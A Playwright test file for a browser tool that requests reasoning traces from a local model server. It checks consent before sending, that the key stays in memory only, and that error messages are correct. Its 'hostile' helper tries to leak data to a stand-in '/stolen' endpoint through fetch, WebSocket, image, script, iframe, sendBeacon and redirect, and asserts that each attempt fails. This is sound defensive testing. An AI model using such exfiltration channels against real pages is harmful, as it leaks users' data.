/**
 * Thoughts of a teacher on this machine: what would leave is shown first, what was agreed to leaves to that one origin,
 * and nothing else can leave, whoever tries, on servers that send a policy and on one that sends none.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { startTeacher, textOf, type Manner, type TeacherServer } from '../tests/train/teacher/teacher-server.ts';
import { bareServer } from './harness/bare-server.ts';
import { faults } from './harness/look.ts';
import { madeZip } from './harness/made-dataset.ts';

const KEY = 'sk-in-memory-only';

let teacher: TeacherServer;
let other: Server;
let heardByOther: string[] = [];
const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

/** Right only where the boxes were told. */
async function begin(manner: Manner): Promise<void> {
  teacher = await startTeacher(manner);
  teacher.answer = (body) => {
    const hint = /The right answer is(.*)\. Think/s.exec(textOf(body))?.[1] ?? '';
    const image = /Image-(\d)/.exec(hint)?.[1];
    const box = /\[\s*\d+[\d,\s]*\]/.exec(hint)?.[0];
    const item = box
      ? `{${image ? `"image": ${image}, ` : ''}"bbox_2d": ${box}}`
      : '{"image": 1, "bbox_2d": [0, 0, 9, 9]}';
    return {
      thought: `I look at all of the pictures and see a bright disc, number ${body.seed}, in one of them.`,
      content: `<answer>[${item}]</answer>`,
    };
  };
}

test.beforeEach(async () => {
  heardByOther = [];
  other = createServer((request, response) => {
    heardByOther.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
});
test.afterEach(async () => {
  await teacher.close();
  other.closeAllConnections();
  other.close();
});

async function openThoughts(page: Page, at = './#/data'): Promise<void> {
  await page.goto(at);
  const buffer = Buffer.from(await madeZip({ rows: 10, ambiguous: false, faults: false, thoughts: false }));
  await page
    .locator('input[data-pick="file"]')
    .first()
    .setInputFiles({ name: 'my set.zip', mimeType: 'application/zip', buffer });
  await expect(page.getByText('my set.zip, read as')).toBeVisible();
  await page.getByRole('tab', { name: 'Thoughts' }).click();
}

const form = (page: Page) => page.getByRole('form', { name: 'Ask a teacher' });
const consent = (page: Page) => page.getByRole('dialog', { name: /^Send rows to/ });
const asks = (page: Page) => form(page).getByRole('button', { name: 'Ask the teacher…' });

async function name(page: Page, more: { key?: string; rows?: string } = {}): Promise<void> {
  await form(page).getByLabel('Server').fill(teacher.endpoint);
  await form(page)
    .getByLabel('Key')
    .fill(more.key ?? '');
  await form(page)
    .getByLabel('Rows')
    .fill(more.rows ?? '3');
  await form(page).getByLabel('Answers per question').fill('2');
  await asks(page).click();
}

const agree = (page: Page) =>
  consent(page)
    .getByRole('button', { name: /^Send to/ })
    .click();

/** Everything that the origin keeps, as text. */
const kept = (page: Page) =>
  page.evaluate(async () => {
    const found: string[] = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), location.href];
    const walk = async (directory: FileSystemDirectoryHandle): Promise<void> => {
      for await (const handle of directory.values())
        if (handle.kind === 'directory') await walk(handle as FileSystemDirectoryHandle);
        else found.push(await (await (handle as FileSystemFileHandle).getFile()).text());
    };
    await walk(await navigator.storage.getDirectory());
    for (const { name: base } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const open = indexedDB.open(base!);
        open.onsuccess = () => resolve(open.result);
        open.onerror = () => reject(open.error!);
      });
      for (const store of database.objectStoreNames) {
        const all = database.transaction(store).objectStore(store).getAll();
        await new Promise((resolve) => (all.onsuccess = resolve));
        found.push(JSON.stringify(all.result));
      }
      database.close();
    }
    return found.join('\n');
  });

test('what would leave is shown first; thoughts come, are looked at, taken and undone; the key stays in memory', async ({
  page,
}) => {
  await begin('vllm');
  teacher.key = KEY;
  await openThoughts(page);
  await name(page, { key: KEY });
  // Nothing leaves before the user agrees, and the safe answer has the focus.
  await expect(consent(page)).toContainText('A server on this machine');
  await expect(consent(page)).toContainText('3 training rows');
  await expect(consent(page)).toContainText('true boxes of rows for which no answer was right');
  const safe = consent(page).getByRole('button', { name: 'Send nothing' });
  await expect(safe).toBeFocused();
  await consent(page).getByText('word for word').click();
  await expect(consent(page)).toContainText('0 to 1000');
  expect(await faults(page, 'dialog[open]')).toEqual([]);
  await safe.press('Enter');
  await expect(consent(page)).toBeHidden();
  expect(teacher.seen).toEqual([]);
  expect(await page.locator('iframe').count()).toBe(0);

  await asks(page).click();
  await agree(page);
  const status = page.getByRole('status').filter({ hasText: 'All rows were asked: 3 of 3 rows' });
  await expect(status).toBeVisible();
  // Two wrong answers and two with the boxes told, of each row.
  expect(teacher.asked()).toHaveLength(12);
  const carried = teacher.seen.filter(({ path }) => path.endsWith('/completions'));
  expect(
    carried.filter(({ method }) => method === 'POST').every(({ headers }) => headers.authorization === `Bearer ${KEY}`),
  ).toBe(true);
  expect(carried[0]!.headers.origin).toBe(new URL(page.url()).origin);
  // The way is closed when nobody uses it.
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(await kept(page)).toContain('bright disc');
  expect(await kept(page)).not.toContain(KEY);

  const thoughts = page.getByRole('listbox', { name: 'Thoughts' });
  await expect(thoughts.getByRole('option')).toHaveCount(3);
  await expect(page.getByRole('article')).toContainText('with the true boxes as a hint');
  await page.getByLabel('Thoughts shown').selectOption({ label: 'Wrong boxes (6)' });
  await expect(thoughts.getByRole('option')).toHaveCount(6);
  await expect(page.getByRole('list', { name: 'What is wrong with it' })).toContainText('wrong boxes');
  await page.getByLabel('Thoughts shown').selectOption({ label: 'Kept (3)' });
  expect(await faults(page, 'main')).toEqual([]);

  // By keys alone: the first is rejected, the second rewritten.
  await thoughts.focus();
  await page.keyboard.press('r');
  await expect(thoughts.getByRole('option')).toHaveCount(2);
  await page.getByRole('article').getByLabel('Thought').fill('The disc is the only bright thing.');
  await page.getByRole('button', { name: 'Accept these words' }).press('Enter');
  await expect(page.getByRole('article')).toContainText('The row has this thought now.');
  await expect(page.getByRole('article')).toContainText('rewritten by you');
  await expect(page.getByRole('tab', { name: 'Edits (1)' })).toBeVisible();
  await page.getByRole('button', { name: 'Take the kept thoughts' }).click();
  await expect(page.getByRole('tab', { name: 'Edits (2)' })).toBeVisible();

  // After a reload a row that has its thought makes room for another; the others cost nothing, and what was said is kept.
  const paid = teacher.asked().length;
  await page.getByRole('tab', { name: /^Edits/ }).click();
  await page.getByRole('button', { name: /^Undo: took a thought/ }).click();
  await expect(page.getByRole('tab', { name: 'Edits (1)' })).toBeVisible();
  await page.reload();
  await openThoughts(page);
  await expect(form(page).getByLabel('Key')).toHaveValue('');
  await name(page, { key: KEY });
  await agree(page);
  await expect(page.getByRole('status').filter({ hasText: 'rows were asked' })).toBeVisible();
  expect(teacher.asked()).toHaveLength(paid + 4);
  await expect(page.getByLabel('Thoughts shown').getByRole('option', { name: 'Rejected by you (1)' })).toBeAttached();
});

test('a server that lets no page in, one that wants a key, and one that is gone are told apart', async ({ page }) => {
  await begin('lm-studio');
  await openThoughts(page);
  await name(page);
  await agree(page);
  const alert = page.getByRole('alert');
  await expect(alert).toContainText('does not let this page in (CORS)');
  expect(teacher.asked()).toEqual([]);

  teacher.letsIn = () => true;
  teacher.key = KEY;
  await asks(page).click();
  await agree(page);
  await expect(alert).toContainText('does not let us in (status 401)');

  await teacher.close();
  await asks(page).click();
  await agree(page);
  await expect(alert).toContainText('There is no whole answer from');
  await begin('ollama');
  await name(page);
  await agree(page);
  await expect(page.getByRole('status').filter({ hasText: '3 of 3 rows' })).toBeVisible();
});

/** Everyone in the page tries to speak to someone else while the way to the teacher is open. */
async function hostile(page: Page): Promise<void> {
  await begin('llama.cpp');
  teacher.trouble = () => 'silent';
  await openThoughts(page, page.url());
  await name(page);
  await agree(page);
  await expect.poll(() => teacher.asked().length).toBeGreaterThan(0);
  const elsewhere = `${urlOf(other)}/stolen`;
  const frame = page.frames().find((each) => each.url().endsWith('/outside.html'))!;
  await expect.poll(() => page.workers().length).toBe(2);
  const speak = async (address: string): Promise<string[]> => {
    const tries: Record<string, () => Promise<unknown>> = {
      fetch: () => fetch(address),
      blindly: () => fetch(address, { method: 'POST', mode: 'no-cors', body: 'pictures' }),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(address.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      ...('document' in globalThis && {
        image: () =>
          new Promise((resolve, reject) => {
            const image = new Image();
            image.onload = resolve;
            image.onerror = reject;
            image.src = `${address}.png`;
          }),
        script: () =>
          new Promise((resolve, reject) => {
            const script = document.createElement('script');
            script.onload = resolve;
            script.onerror = reject;
            script.src = `${address}.js`;
            document.head.append(script);
          }),
        frame: () =>
          new Promise((_, reject) => {
            const inner = document.createElement('iframe');
            inner.src = address;
            document.body.append(inner);
            setTimeout(() => {
              inner.remove();
              reject(new Error('nothing came'));
            }, 500);
          }),
        beacon: async () => {
          navigator.sendBeacon(address, 'pictures');
          throw new Error('cannot be told');
        },
      }),
    };
    const got: string[] = [];
    for (const [way, tried] of Object.entries(tries))
      await tried().then(
        () => got.push(way),
        () => undefined,
      );
    return got;
  };
  expect(await page.evaluate(speak, elsewhere)).toEqual([]);
  expect(await frame.evaluate(speak, elsewhere)).toEqual([]);
  for (const worker of page.workers()) expect(await worker.evaluate(speak, elsewhere), worker.url()).toEqual([]);
  // The page cannot speak to the teacher itself, nor bind the open way to another place.
  expect(await page.evaluate(speak, `${teacher.endpoint}/v1/models`)).toEqual([]);
  await page.evaluate(
    (base) => {
      const inner = document.querySelector('iframe')!;
      inner.contentWindow!.postMessage({ base, key: '' }, location.origin, [new MessageChannel().port2]);
    },
    `${urlOf(other)}/v1`,
  );
  // And the teacher cannot send anyone on.
  teacher.trouble = () => ({ status: 307, headers: { location: elsewhere, 'access-control-allow-origin': '*' } });
  await page.getByRole('button', { name: 'Stop' }).click();
  await asks(page).click();
  await agree(page);
  await expect.poll(() => teacher.asked().length).toBeGreaterThan(6);
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.locator('iframe')).toHaveCount(0);
  expect(heardByOther).toEqual([]);
}

test('nothing else can leave while the way to a teacher is open', async ({ page }) => {
  await page.goto('./#/data');
  await hostile(page);
});

test('nothing else can leave on a server that sends no policy', async ({ page }) => {
  const server = await bareServer();
  try {
    await page.goto(`${server.url}#/data`);
    await hostile(page);
  } finally {
    server.close();
  }
});
